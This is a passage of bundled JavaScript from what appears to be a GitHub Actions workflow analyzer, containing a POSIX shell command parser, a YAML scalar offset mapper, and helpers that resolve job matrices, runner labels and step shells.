/** What stands behind the last dot of a file's name, in lower case; empty where there is none. */
function extensionOf(path) {
    const name = baseName(path);
    const dot = name.lastIndexOf('.');
    return dot < 0 ? '' : name.slice(dot + 1).toLowerCase();
}
/** In the folder where GitHub looks for workflows, of whatever repository below. */
function isWorkflowPath(path) {
    const name = baseName(path);
    return `/${path}`.endsWith(`/.github/workflows/${name}`) && ['.yml', '.yaml'].some((end) => name.endsWith(end) && name !== end);
}
const isActionPath = (path) => ['action.yml', 'action.yaml'].includes(baseName(path));


/***/ }),

/***/ 6481:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   Y: () => (/* binding */ spanWithin)
/* harmony export */ });
const known = new WeakMap();
/**
 * The place in the file of a part of a scalar's decoded string: quotes, escapes, folding and indentation are counted in.
 * The scalar's own span where the two cannot be matched.
 */
function spanWithin(scalar, text, part) {
    let alignment = known.get(scalar);
    if (alignment === undefined) {
        alignment = align(scalar, text);
        known.set(scalar, alignment);
    }
    const start = alignment?.starts[part.start] ?? alignment?.ends[part.start - 1];
    const end = part.end > part.start ? alignment?.ends[part.end - 1] : start;
    return start === undefined || end === undefined ? scalar.span : { start, end };
}
function align(scalar, text) {
    const raw = text.slice(scalar.span);
    const walk = new Walk(raw, scalar.string, scalar.span.start);
    if (raw === scalar.string)
        return walk.plain();
    if (scalar.style === 'literal' || scalar.style === 'folded')
        return walk.block();
    return scalar.style === 'plain' ? walk.flow(0, null) : walk.flow(1, scalar.style);
}
/** Walks the text as written and the decoded string side by side. */
class Walk {
    #raw;
    #string;
    #shift;
    #starts = [];
    #ends = [];
    constructor(raw, string, shift) {
        this.#raw = raw;
        this.#string = string;
        this.#shift = shift;
    }
    get #done() {
        return this.#starts.length >= this.#string.length;
    }
    get #next() {
        return this.#string[this.#starts.length];
    }
    #put(start, end) {
        this.#starts.push(start + this.#shift);
        this.#ends.push(end + this.#shift);
    }
    #result() {
        return this.#done ? { starts: this.#starts, ends: this.#ends } : null;
    }
    plain() {
        for (let at = 0; at < this.#raw.length; at++)
            this.#put(at, at + 1);
        return this.#result();
    }
    /** Plain and quoted scalars: line breaks with the blanks around them fold to one space, or to all but one of them (YAML 1.2, 6.5). */
    flow(from, quotes) {
        const fold = /[ \t]*\r?\n\s*/y;
        for (let at = from; !this.#done;) {
            const length = quotes === 'double' && this.#raw[at] === '\\' ? this.#escape(at) : quotes === 'single' && this.#raw[at] === "'" ? 2 : 1;
            fold.lastIndex = at;
            const folded = fold.exec(this.#raw)?.[0];
            if (folded !== undefined) {
                if (this.#next === '\n')
                    this.#takeBreaks(at, at + folded.length);
                else if (this.#next === ' ')
                    this.#put(at, at + folded.length);
                at += folded.length;
            }
            else if (length > 1) {
                const units = this.#raw[at] === '\\' ? this.#escapedUnits(at) : 1;
                for (let unit = 0; unit < units; unit++)
                    this.#put(at, at + length);
                at += length;
            }
            else if (this.#raw[at] === this.#next)
                this.#put(at, ++at);
            else
                return null;
        }
        return this.#result();
    }
    #escape(at) {
        const [written = '\\'] = /^\\(?:x..|u.{4}|U.{8}|\r?\n[ \t]*|[\s\S]|$)/.exec(this.#raw.slice(at, at + 1000)) ?? [];
        return written.length;
    }
    /** An escaped line break stands for nothing; a character above U+FFFF for two units. */
    #escapedUnits(at) {
        const next = this.#raw[at + 1];
        if (next === '\n' || next === '\r')
            return 0;
        return next === 'U' && (this.#string.codePointAt(this.#starts.length) ?? 0) > 0xffff ? 2 : 1;
    }
    #takeBreaks(start, end) {
        while (this.#next === '\n')
            this.#put(start, end);
    }
    /** Literal and folded scalars: each line without the block's indentation. */
    block() {
        const header = this.#raw.indexOf('\n') + 1;
        const lines = [...this.#raw.slice(header).matchAll(/([^\r\n]*)(\r?\n|$)/g)];
        const indent = this.#indent(lines.map((line) => line[1] ?? ''));
        for (const line of lines) {
            const [, content = '', lineBreak = ''] = line;
            const start = header + line.index;
            for (let at = Math.min(indent, content.length); at < content.length; at++) {
                if (content[at] !== this.#next)
                    return null;
                this.#put(start + at, start + at + 1);
            }
            const end = start + content.length;
            if (this.#next === '\n' || (this.#next === ' ' && content.length > indent))
                this.#put(end, end + lineBreak.length);
        }
        // A block's span ends with its last word.
        while (/\s/.test(this.#next ?? ''))
            this.#put(this.#raw.length, this.#raw.length);
        return this.#result();
    }
    #indent(lines) {
        const first = lines.find((line) => line.trim() !== '') ?? '';
        const blanks = (text) => text.length - text.trimStart().length;
        const decoded = this.#string.split('\n').find((line) => line.trim() !== '') ?? '';
        return blanks(first) - blanks(decoded);
    }
}


/***/ }),

/***/ 3035:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   H7: () => (/* binding */ isShell),
/* harmony export */   QC: () => (/* binding */ invocationOf),
/* harmony export */   n3: () => (/* binding */ everyCommand)
/* harmony export */ });
/* harmony import */ var _paths_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(3774);
/* harmony import */ var _shell_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(4598);


/** For each: its options that take a value of their own, and how many words stand before the command. */
const wrappers = new Map([
    ['sudo', { valued: /^-[ugpCrtUTDRh]$|^--(?:user|group|prompt|chdir|host|role|type)$/, operands: 0 }],
    ['doas', { valued: /^-[uC]$/, operands: 0 }],
    ['env', { valued: /^-[uCS]$|^--(?:unset|chdir)$/, operands: 0 }],
    ['nice', { valued: /^-n$/, operands: 0 }],
    ['ionice', { valued: /^-[cnp]$/, operands: 0 }],
    ['timeout', { valued: /^-[sk]$/, operands: 1 }],
    ['xargs', { valued: /^-[InPLdEas]$/, operands: 0 }],
    ['stdbuf', { valued: /^-[ioe]$/, operands: 0 }],
    ['chroot', { valued: /^$/, operands: 1 }],
    ['gosu', { valued: /^$/, operands: 1 }],
    ['su-exec', { valued: /^$/, operands: 1 }],
    ...['exec', 'command', 'builtin', 'nohup', 'setsid', 'time', 'busybox', 'eatmydata', 'retry', 'fakeroot'].map((name) => [name, { valued: /^-a$/, operands: 0 }]),
]);
const maxWrappers = 10;
/** Null for a command that only sets variables. */
function invocationOf(command) {
    const taken = [];
    let words = command.words;
    for (;;) {
        const [first] = words;
        if (!first) {
            const nameWord = taken.at(-1);
            return nameWord ? { command, name: (0,_paths_js__WEBPACK_IMPORTED_MODULE_1__/* .baseName */ .Fl)(nameWord.value), nameWord, args: [], wrappers: taken.slice(0, -1) } : null;
        }
        const wrapper = first.literal && taken.length < maxWrappers ? wrappers.get((0,_paths_js__WEBPACK_IMPORTED_MODULE_1__/* .baseName */ .Fl)(first.value)) : undefined;
        if (!wrapper)
            return { command, name: first.literal ? (0,_paths_js__WEBPACK_IMPORTED_MODULE_1__/* .baseName */ .Fl)(first.value) : '', nameWord: first, args: words.slice(1), wrappers: taken };
        taken.push(first);
        words = afterWrapper(words, wrapper);
    }
}
function afterWrapper(words, { valued, operands }) {
    let at = 1;
    for (let left = operands; at < words.length; at++) {
        const value = words[at]?.value ?? '';
        if (value === '--') {
            at += 1 + left;
            break;
        }
        if (valued.test(value))
            at++;
        else if (!value.startsWith('-') && !/^[A-Za-z_]\w*=/.test(value) && left-- === 0)
            break;
    }
    return words.slice(at);
}
const shells = /^(?:ba|da|a|z|k|mk|fi)?sh$/;
/** Scripts in scripts in scripts are read, and no deeper. */
const maxNesting = 5;
const isShell = (name) => shells.test(name);
/**
 * All commands that the script holds, in the order of the text: those of substitutions, of `sh -c '…'`, of `eval '…'`
 * and of here-documents that a shell reads, too.
 */
function* everyCommand(commands, nesting = 0) {
    for (const command of commands) {
        const invocation = invocationOf(command);
        if (invocation)
            yield invocation;
        if (invocation?.name === 'find')
            yield* startedByFind(invocation);
        const parts = [...command.words, ...command.assignments, ...command.redirections.map((redirection) => redirection.target)];
        for (const part of parts)
            if (part.commands.length > 0)
                yield* everyCommand(part.commands, nesting);
        if (!invocation || nesting >= maxNesting)
            continue;
        for (const script of scriptsOf(invocation))
            yield* everyCommand((0,_shell_js__WEBPACK_IMPORTED_MODULE_0__/* .parseShell */ .a)(script.text, script.locate), nesting + 1);
    }
}
/** `find … -exec program … ;` */
function* startedByFind({ command, args }) {
    for (const [at, { value }] of args.entries()) {
        const started = /^-(?:exec|ok)(?:dir)?$/.test(value) ? invocationOf({ ...command, words: args.slice(at + 1) }) : null;
        if (started)
            yield started;
    }
}
function scriptsOf({ command, name, args }) {
    if (name === 'eval')
        return args.flatMap((arg) => arg.content ?? []);
    if (!isShell(name) && name !== 'su' && name !== 'runuser')
        return [];
    const at = args.findIndex((arg) => /^-[a-z]*c$/.test(arg.value));
    if (at >= 0)
        return [args[at + 1]?.content ?? []].flat();
    return command.redirections.flatMap((redirection) => redirection.heredoc ?? []);
}


/***/ }),

/***/ 4598:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {


// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  a: () => (/* binding */ parseShell)
});

;// CONCATENATED MODULE: ./lib/documents/shell-words.js
/** Deeper substitutions are skipped unread. */
const maxDepth = 40;
const isBlank = (char) => char === ' ' || char === '\t' || char === '\r' || char === '\0';
const endsWord = (char) => isBlank(char) || char === '\n' || ';&|()<>'.includes(char);
const isName = (char) => /\w/.test(char);
/** A position in the script, shared by the readers of words and of lists. */
class Cursor {
    text;
    locate;
    at;
    depth;
    constructor(text, locate, depth = 0, at = 0) {
        this.text = text;
        this.locate = locate;
        this.depth = depth;
        this.at = at;
    }
    get char() {
        return this.text[this.at] ?? '';
    }
    get done() {
        return this.at >= this.text.length;
    }
    starts(prefix) {
        return this.text.startsWith(prefix, this.at);
    }
    /** The offset behind the next `close`, or the end. */
    behind(close, from = this.at) {
        const found = this.text.indexOf(close, from);
        return found < 0 ? this.text.length : found + close.length;
    }
    /** Skips blanks, NUL, and line breaks after a backslash. */
    skipBlanks() {
        for (; !this.done; this.at++) {
            if (this.char === '\\' && /^\r?\n/.test(this.text.slice(this.at + 1, this.at + 3)))
                this.at += this.text[this.at + 1] === '\r' ? 2 : 1;
            else if (!isBlank(this.char))
                return;
        }
    }
}
/** Reads one word; `operators` are taken as ordinary characters inside `[[ … ]]`. */
class WordReader {
    #cursor;
    #readList;
    #value = '';
    #literal = true;
    #quoted = false;
    #commands = [];
    constructor(cursor, readList) {
        this.#cursor = cursor;
        this.#readList = readList;
    }
    /** Null where no word starts. */
    read() {
        const cursor = this.#cursor;
        const start = cursor.at;
        while (!cursor.done) {
            if (cursor.starts('<(') || cursor.starts('>(')) {
                if (cursor.at > start)
                    break;
                this.#substitution(2);
            }
            else if (endsWord(cursor.char) && cursor.char !== '\0')
                break;
            else
                this.#part();
        }
        if (cursor.at === start)
            return null;
        return {
            value: this.#value,
            span: { start: cursor.locate(start), end: cursor.locate(cursor.at) },
            literal: this.#literal,
            quoted: this.#quoted,
            commands: this.#commands,
            content: this.#content(start),
        };
    }
    #content(start) {
        const { text, at, locate } = this.#cursor;
        const quote = text[start];
        const inner = text.slice(start + 1, at - 1);
        if ((quote !== "'" && quote !== '"') || at - start < 2 || text[at - 1] !== quote || inner.includes(quote))
            return null;
        return { text: inner, locate: (offset) => locate(start + 1 + offset) };
    }
    #part() {
        const cursor = this.#cursor;
        switch (cursor.char) {
            case '\\':
                this.#escape();
                break;
            case "'":
                this.#single();
                break;
            case '"':
                this.#double();
                break;
            case '$':
                this.#dollar();
                break;
            case '`':
                this.#backticks();
                break;
            case '\0':
                cursor.at++;
                break;
            default:
                this.#value += cursor.char;
                cursor.at++;
        }
    }
    #escape() {
        const cursor = this.#cursor;
        const next = cursor.text[cursor.at + 1] ?? '';
        if (next === '\n')
            cursor.at += 2;
        else if (next === '\r' && cursor.text[cursor.at + 2] === '\n')
            cursor.at += 3;
        else {
            this.#value += next;
            cursor.at += 2;
        }
        cursor.at = Math.min(cursor.at, cursor.text.length);
    }
    #single() {
        const cursor = this.#cursor;
        const end = cursor.behind("'", cursor.at + 1);
        const text = cursor.text.slice(cursor.at + 1, end);
        this.#quoted = true;
        this.#value += (text.endsWith("'") ? text.slice(0, -1) : text).replaceAll('\0', '');
        cursor.at = end;
    }
    #double() {
        const cursor = this.#cursor;
        this.#quoted = true;
        cursor.at++;
        while (!cursor.done && cursor.char !== '"') {
            const char = cursor.char;
            if (char === '$')
                this.#dollar();
            else if (char === '`')
                this.#backticks();
            else if (char === '\\' && !/["\\$`\r\n]/.test(cursor.text[cursor.at + 1] ?? '')) {
                this.#value += char;
                cursor.at++;
            }
            else if (char === '\\')
                this.#escape();
            else {
                if (char !== '\0')
                    this.#value += char;
                cursor.at++;
            }
        }
        if (!cursor.done)
            cursor.at++;
    }
    #dollar() {
        const cursor = this.#cursor;
        if (cursor.starts('$(('))
            this.#take(cursor.behind('))'));
        else if (cursor.starts('$('))
            this.#substitution(2);
        else if (cursor.starts('${{'))
            this.#take(cursor.behind('}}'));
        else if (cursor.starts('${'))
            this.#parameter();
        else if (cursor.starts("$'"))
            this.#ansi();
        else {
            const start = cursor.at++;
            if (/[@*#?$!\d-]/.test(cursor.char))
                cursor.at++;
            else
                while (!cursor.done && isName(cursor.char))
                    cursor.at++;
            if (cursor.at > start + 1)
                this.#literal = false;
            this.#value += cursor.text.slice(start, cursor.at);
        }
    }
    #ansi() {
        const cursor = this.#cursor;
        this.#quoted = true;
        cursor.at += 2;
        while (!cursor.done && cursor.char !== "'") {
            if (cursor.char === '\\')
                this.#escape();
            else {
                this.#value += cursor.char;
                cursor.at++;
            }
        }
        if (!cursor.done)
            cursor.at++;
    }
    /** Takes the text up to `end` over as written. */
    #take(end) {
        const cursor = this.#cursor;
        this.#literal = false;
        this.#value += cursor.text.slice(cursor.at, end);
        cursor.at = end;
    }
    /** `${…}` with quotes and nested braces. Commands in it (`${X:-$(curl …)}`) are rare and not read. */
    #parameter() {
        const { text, at: start } = this.#cursor;
        let depth = 0;
        for (let at = start; at < text.length; at++) {
            const char = text[at];
            if (char === '\\')
                at++;
            else if (char === '{')
                depth++;
            else if (char === '}' && --depth === 0) {
                this.#take(at + 1);
                return;
            }
        }
        this.#take(text.length);
    }
    #substitution(openLength) {
        const cursor = this.#cursor;
        const start = cursor.at;
        cursor.at += openLength;
        this.#literal = false;
        if (++cursor.depth > maxDepth)
            cursor.at = cursor.text.length;
        else
            this.#commands.push(...this.#readList(cursor));
        cursor.depth--;
        this.#value += cursor.text.slice(start, cursor.at);
    }
    #backticks() {
        const cursor = this.#cursor;
        const start = cursor.at;
        let close = start + 1;
        while (close < cursor.text.length && cursor.text[close] !== '`')
            close += cursor.text[close] === '\\' ? 2 : 1;
        this.#literal = false;
        if (cursor.depth < maxDepth)
            this.#commands.push(...this.#readList(new Cursor(cursor.text.slice(0, close), cursor.locate, cursor.depth + 1, start + 1)));
        cursor.at = Math.min(close + 1, cursor.text.length);
        this.#value += cursor.text.slice(start, cursor.at);
    }
}

;// CONCATENATED MODULE: ./lib/documents/shell.js

const opening = new Set(['if', 'while', 'until', 'for', 'select', 'case', '{']);
const closing = new Set(['fi', 'done', 'esac', '}']);
const passing = new Set(['then', 'else', 'elif', 'do', '!', 'time', 'coproc']);
const redirection = /\d*(?:<<<|<<-|<<|<>|<&|<|>>|>\||>&|>|&>>|&>)/y;
/**
 * Splits a POSIX shell (or bash) script into simple commands. It is no shell: aliases, functions and values of variables are not known, and
 * text that no shell would take is read as far as it goes. Time is linear in the text.
 * @param locate gives the file's offset for an offset in the text; by default they are the same
 */
function parseShell(text, locate = 0) {
    const place = typeof locate === 'number' ? (at) => at + locate : locate;
    return new ListReader(new Cursor(text, place)).read(false);
}
const readList = (cursor) => new ListReader(cursor).read(true);
/** Of a group that is piped on, only the last commands are kept. */
const maxGroup = 50;
class ListReader {
    #cursor;
    #commands = [];
    #groups = [];
    #heredocs = [];
    #words = [];
    #assignments = [];
    #redirections = [];
    #operator = '';
    #pipedFrom = [];
    /** The first command of the element that ended last: a command or a group. */
    #elementStart = 0;
    /** Redirections that come now are those of the group. */
    #afterGroup = false;
    #start = 0;
    #end = 0;
    constructor(cursor) {
        this.#cursor = cursor;
    }
    /** With `nested`, up to the parenthesis that closes the substitution. */
    read(nested) {
        const cursor = this.#cursor;
        while (!cursor.done) {
            const before = cursor.at;
            cursor.skipBlanks();
            if (cursor.done)
                break;
            if (nested && cursor.char === ')' && this.#groups.at(-1)?.kind !== '(') {
                cursor.at++;
                break;
            }
            if (!this.#separator() && !this.#redirection())
                this.#word();
            if (cursor.at === before)
                cursor.at++;
        }
        this.#finish();
        return this.#commands;
    }
    #separator() {
        const cursor = this.#cursor;
        const { char } = cursor;
        if (char === '#') {
            const end = cursor.text.indexOf('\n', cursor.at);
            cursor.at = end < 0 ? cursor.text.length : end;
        }
        else if (char === '\n') {
            cursor.at++;
            this.#finish();
            this.#readHeredocs();
        }
        else if (this.#inTest() && '&|;()'.includes(char))
            cursor.at++;
        else if (char === '(')
            this.#openParenthesis();
        else if (char === ')') {
            cursor.at++;
            this.#finish();
            this.#close('(');
        }
        else if (char === ';' || (char === '&' && !cursor.starts('&>')) || char === '|')
            this.#controlOperator();
        else
            return false;
        return true;
    }
    #inTest() {
        return this.#words[0]?.value === '[[' && this.#words.at(-1)?.value !== ']]';
    }
    #controlOperator() {
        const cursor = this.#cursor;
        const operator = ['&&', '||', ';;&', ';;', ';&', '|&', '&', '|', ';'].find((each) => cursor.starts(each)) ?? ';';
        cursor.at += operator.length;
        const isPipe = operator === '|' || operator === '|&';
        this.#finish();
        this.#operator = isPipe ? '|' : operator === '&&' || operator === '||' || operator === '&' ? operator : ';';
        this.#pipedFrom = isPipe ? this.#commands.slice(Math.max(this.#elementStart, this.#commands.length - maxGroup)) : [];
        if (operator.length > 1 && operator.startsWith(';') && this.#groups.at(-1)?.kind === 'case')
            this.#skipPattern();
    }
    #openParenthesis() {
        const cursor = this.#cursor;
        if (cursor.starts('((')) {
            cursor.at = cursor.behind('))');
        }
        else if (this.#words.length > 0 || this.#assignments.length > 0) {
            // A function's `name()`, or an array's `name=(a b)`: neither runs anything.
            cursor.at = cursor.behind(')');
            this.#words = [];
        }
        else {
            cursor.at++;
            this.#groups.push({ kind: '(', first: this.#commands.length });
        }
    }
    /** Ends the innermost group: that of a parenthesis, or with `''` any other. What does not fit, as the `)` of a pattern, ends none. */
    #close(kind) {
        const group = this.#groups.at(-1);
        if (!group || (group.kind === '(') !== (kind === '('))
            return;
        this.#groups.pop();
        this.#elementStart = group.first;
        this.#afterGroup = true;
    }
    #word() {
        const cursor = this.#cursor;
        const start = cursor.at;
        const word = new WordReader(cursor, readList).read();
        if (!word)
            return;
        if (this.#words.length === 0) {
            if (this.#keyword(word))
                return;
            const assignment = this.#assignment(word, start);
            if (assignment) {
                this.#extend(word.span.start, word.span.end);
                this.#assignments.push(assignment);
                return;
            }
        }
        this.#extend(word.span.start, word.span.end);
        this.#words.push(word);
        if (word.value === 'in' && this.#words.length === 3 && this.#words[0]?.value === 'case') {
            this.#words = [];
            this.#skipPattern();
        }
    }
    #keyword(word) {
        if (word.quoted || !word.literal || this.#assignments.length > 0)
            return false;
        if (passing.has(word.value))
            return true;
        if (word.value === 'function') {
            this.#cursor.skipBlanks();
            new WordReader(this.#cursor, readList).read();
            return true;
        }
        if (closing.has(word.value)) {
            this.#close('');
            return true;
        }
        if (!opening.has(word.value))
            return false;
        this.#groups.push({ kind: word.value, first: this.#commands.length });
        return !['for', 'select', 'case'].includes(word.value);
    }
    #assignment(word, start) {
        const match = word.value.includes('=') ? /^([A-Za-z_]\w*)\+?=/.exec(word.value) : null;
        if (!match?.[1] || !this.#cursor.text.startsWith(match[1], start))
            return null;
        return { name: match[1], value: word.value.slice(match[0].length), span: word.span, commands: word.commands };
    }
    /** Past the patterns of one branch: `a | b)`. */
    #skipPattern() {
        const cursor = this.#cursor;
        for (let first = true; !cursor.done; first = false) {
            while (!cursor.done && /[\s\0]/.test(cursor.char))
                cursor.at++;
            const start = cursor.at;
            const word = new WordReader(cursor, readList).read();
            if (first && word?.value === 'esac') {
                cursor.at = start;
                return;
            }
            if (word)
                continue;
            if (cursor.done)
                return;
            const { char } = cursor;
            cursor.at++;
            if (char === ')')
                return;
        }
    }
    #redirection() {
        const cursor = this.#cursor;
        if (cursor.starts('<(') || cursor.starts('>('))
            return false;
        redirection.lastIndex = cursor.at;
        const match = redirection.exec(cursor.text);
        if (!match)
            return false;
        if (this.#inTest()) {
            cursor.at += match[0].length;
            return true;
        }
        const start = cursor.at;
        cursor.at += match[0].length;
        cursor.skipBlanks();
        const target = new WordReader(cursor, readList).read();
        if (!target)
            return true;
        const entry = { operator: match[0].replace(/^\d+/, ''), target, heredoc: null };
        this.#extend(cursor.locate(start), target.span.end);
        this.#redirections.push(entry);
        if (entry.operator === '<<' || entry.operator === '<<-')
            this.#heredocs.push(entry);
        return true;
    }
    get #isEmpty() {
        return this.#words.length + this.#assignments.length + this.#redirections.length === 0;
    }
    #extend(start, end) {
        if (this.#isEmpty)
            this.#start = start;
        this.#end = end;
    }
    #readHeredocs() {
        const cursor = this.#cursor;
        for (const entry of this.#heredocs.splice(0)) {
            const start = cursor.at;
            let end = start;
            while (!cursor.done) {
                const feed = cursor.text.indexOf('\n', cursor.at);
                const lineEnd = feed < 0 ? cursor.text.length : feed;
                const line = cursor.text.slice(cursor.at, lineEnd).replace(/\r$/, '');
                end = cursor.at;
                cursor.at = Math.min(lineEnd + 1, cursor.text.length);
                if ((entry.operator === '<<-' ? line.replace(/^\t+/, '') : line) === entry.target.value)
                    break;
                end = cursor.at;
            }
            entry.heredoc = { text: cursor.text.slice(start, end), locate: (offset) => cursor.locate(start + offset) };
        }
    }
    /** Ends the command that is being read, if any. */
    #finish() {
        if (this.#isEmpty)
            return;
        if (this.#words.length + this.#assignments.length > 0 || !this.#afterGroup) {
            this.#elementStart = this.#commands.length;
            this.#commands.push({
                words: this.#words,
                assignments: this.#assignments,
                redirections: this.#redirections,
                span: { start: this.#start, end: this.#end },
                operator: this.#commands.length === 0 ? '' : this.#operator,
                pipedFrom: this.#pipedFrom,
            });
            this.#operator = ';';
            this.#pipedFrom = [];
            this.#afterGroup = false;
        }
        this.#words = [];
        this.#assignments = [];
        this.#redirections = [];
    }
}


/***/ }),

/***/ 8427:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   Px: () => (/* binding */ matrixNodes),
/* harmony export */   Qc: () => (/* binding */ matrixValues),
/* harmony export */   a: () => (/* binding */ matrixItems)
/* harmony export */ });
/* harmony import */ var _caseless_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(1621);
/* harmony import */ var _expression_paths_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(1747);
/* harmony import */ var _yaml_values_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(5682);



/** What `matrix.x[.y]` can be in a job, from `strategy.matrix` and its `include`; nothing where the expression is no plain matrix value. */
function matrixItems(job, expression) {
    const nothing = { items: [], complete: false };
    if (expression.kind !== 'access')
        return nothing;
    const [found] = (0,_expression_paths_js__WEBPACK_IMPORTED_MODULE_1__/* .yieldedPaths */ .l)(expression);
    const [context, name, ...rest] = found?.path ?? [];
    if (context !== 'matrix' || name === undefined || rest.includes('*') || name === '*')
        return nothing;
    const matrix = job.at('strategy', 'matrix');
    if (matrix?.kind !== 'map')
        return nothing;
    const [own, include] = [(0,_caseless_js__WEBPACK_IMPORTED_MODULE_0__/* .caselessValue */ .Z)(matrix, name), matrix.at('include')];
    const values = [...(0,_yaml_values_js__WEBPACK_IMPORTED_MODULE_2__/* .itemsOf */ .S3)(own), ...(0,_yaml_values_js__WEBPACK_IMPORTED_MODULE_2__/* .itemsOf */ .S3)(include).flatMap((item) => (0,_caseless_js__WEBPACK_IMPORTED_MODULE_0__/* .caselessValue */ .Z)(item, name) ?? [])];
    const picked = values.map((value) => rest.reduce(_caseless_js__WEBPACK_IMPORTED_MODULE_0__/* .caselessValue */ .Z, value));
    const items = picked.filter((item) => item !== undefined);
    const isKnown = [own, include].every((node) => node === undefined || node.kind === 'sequence');
    return { items, complete: isKnown && items.length > 0 && !items.some((item) => item.string?.includes('${{')) };
}
/** The scalars that can become its text: its values, and the expression that makes them when the job runs (`matrix: ${{ fromJSON(…) }}`). */
function matrixNodes(job, expression) {
    const [found] = (0,_expression_paths_js__WEBPACK_IMPORTED_MODULE_1__/* .yieldedPaths */ .l)(expression);
    const matrix = job.at('strategy', 'matrix');
    const made = [matrix, (0,_caseless_js__WEBPACK_IMPORTED_MODULE_0__/* .caselessValue */ .Z)(matrix, found?.path[1] ?? ''), matrix?.at('include')];
    return [...matrixItems(job, expression).items, ...made].filter((node) => node?.kind === 'scalar');
}
/** The same where all of it is known, else null. */
function matrixValues(job, expression) {
    const { items, complete } = matrixItems(job, expression);
    const nodes = items.filter((node) => node.kind === 'scalar');
    return complete && nodes.length === items.length ? nodes : null;
}


/***/ }),

/***/ 545:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {


// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  _: () => (/* binding */ runnerLabels)
});

// EXTERNAL MODULE: ./lib/documents/expression-find.js
var expression_find = __webpack_require__(5960);
// EXTERNAL MODULE: ./lib/documents/expression-fold.js
var expression_fold = __webpack_require__(6028);
;// CONCATENATED MODULE: ./lib/documents/expression-literals.js

/** The texts written in an expression that it can give, as one or as items of a list (`fromJSON('["a"]')`), with what is known of contexts. */
function* yieldedTexts(expression, known) {
    if (expression.kind === 'operation' && expression.operator === '&&') {
        const last = expression.operands.at(-1);
        if (last && expression.operands.every((operand) => (0,expression_fold/* truth */.Im)(operand, known) !== false))
            yield* yieldedTexts(last, known);
    }
    else if (expression.kind === 'operation' && expression.operator === '||') {
        for (const operand of expression.operands) {
            yield* yieldedTexts(operand, known);
            if ((0,expression_fold/* truth */.Im)(operand, known) === true)
                return;
        }
    }
    else if (expression.kind === 'call' && expression.name === 'fromjson') {
        const [text] = expression.arguments;
        if (text)
            for (const json of yieldedTexts(text, known))
                yield* textsInJson(json);
    }
    else {
        const value = (0,expression_fold/* fold */.AU)(expression, known);
        if (typeof value === 'string')
            yield value;
    }
}
function textsInJson(json) {
    try {
        const value = JSON.parse(json);
        return [value].flat().filter((each) => typeof each === 'string');
    }
    catch {
        return [];
    }
}

// EXTERNAL MODULE: ./lib/documents/workflow-matrix.js
var workflow_matrix = __webpack_require__(8427);
// EXTERNAL MODULE: ./lib/documents/yaml-values.js
var yaml_values = __webpack_require__(5682);
;// CONCATENATED MODULE: ./lib/documents/workflow-runner.js




/**
 * The labels that `runs-on` asks for: a string, a list, or `labels` below a group. Values of the matrix are put in where they are known, and of
 * another expression the texts that it can give; where none is written in it, it stands for itself.
 */
function runnerLabels(job, known = new Map()) {
    const runsOn = job.at('runs-on');
    return scalars(runsOn?.kind === 'map' ? runsOn.at('labels') : runsOn).flatMap((node) => expanded(job, node, known));
}
const scalars = (node) => (node?.kind === 'scalar' ? [node] : (0,yaml_values/* scalarsIn */.PX)(node));
function expanded(job, node, known) {
    const asWritten = [{ value: node.string, node }];
    const [fence] = (0,expression_find/* findExpressions */.zV)(node.string);
    const isAlone = fence !== undefined && fence.span.start === 0 && fence.span.end === node.string.length;
    if (!isAlone || !fence.expression)
        return asWritten;
    const { items, complete } = (0,workflow_matrix/* matrixItems */.a)(job, fence.expression);
    if (complete)
        return items.flatMap(scalars).map((label) => ({ value: label.string, node: label }));
    const texts = [...yieldedTexts(fence.expression, known)];
    return texts.length > 0 ? texts.map((value) => ({ value, node })) : asWritten;
}


/***/ }),

/***/ 9666:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   Bs: () => (/* binding */ stepCommands),
/* harmony export */   Wz: () => (/* binding */ stepInvocations),
/* harmony export */   c3: () => (/* binding */ maskExpressions),
/* harmony export */   dZ: () => (/* binding */ shellLanguage)
/* harmony export */ });
/* harmony import */ var _expression_find_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(5960);
/* harmony import */ var _scalar_offsets_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(6481);
/* harmony import */ var _shell_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(4598);
/* harmony import */ var _shell_commands_js__WEBPACK_IMPORTED_MODULE_3__ = __webpack_require__(3035);
/* harmony import */ var _workflow_runner_js__WEBPACK_IMPORTED_MODULE_4__ = __webpack_require__(545);





/** The shell that runs the step: its own, the defaults of the job and the workflow, or the runner's. */
function shellLanguage({ job, at }) {
    const shell = at('shell') ?? job?.at('defaults', 'run', 'shell') ?? job?.workflow.at('defaults', 'run', 'shell');
    if (shell?.string === undefined || shell.string.includes('${{')) {
        const labels = job ? (0,_workflow_runner_js__WEBPACK_IMPORTED_MODULE_4__/* .runnerLabels */ ._)(job) : [];
        return labels.length > 0 && labels.every(({ value }) => value.toLowerCase().includes('windows')) ? 'powershell' : 'posix';
    }
    if (/\b(?:pwsh|powershell)\b/i.test(shell.string))
        return 'powershell';
    if (/^cmd\b/i.test(shell.string))
        return 'cmd';
    return /\b(?:ba|da|z|k|a)?sh\b/.test(shell.string) ? 'posix' : 'other';
}
const parsed = new WeakMap();
/** The commands of a step's `run` at the top of its script, spans in the file; none where it is no POSIX shell. An expression is read as a variable. */
function stepCommands(step) {
    let commands = parsed.get(step);
    if (commands === undefined) {
        const { run, document } = step;
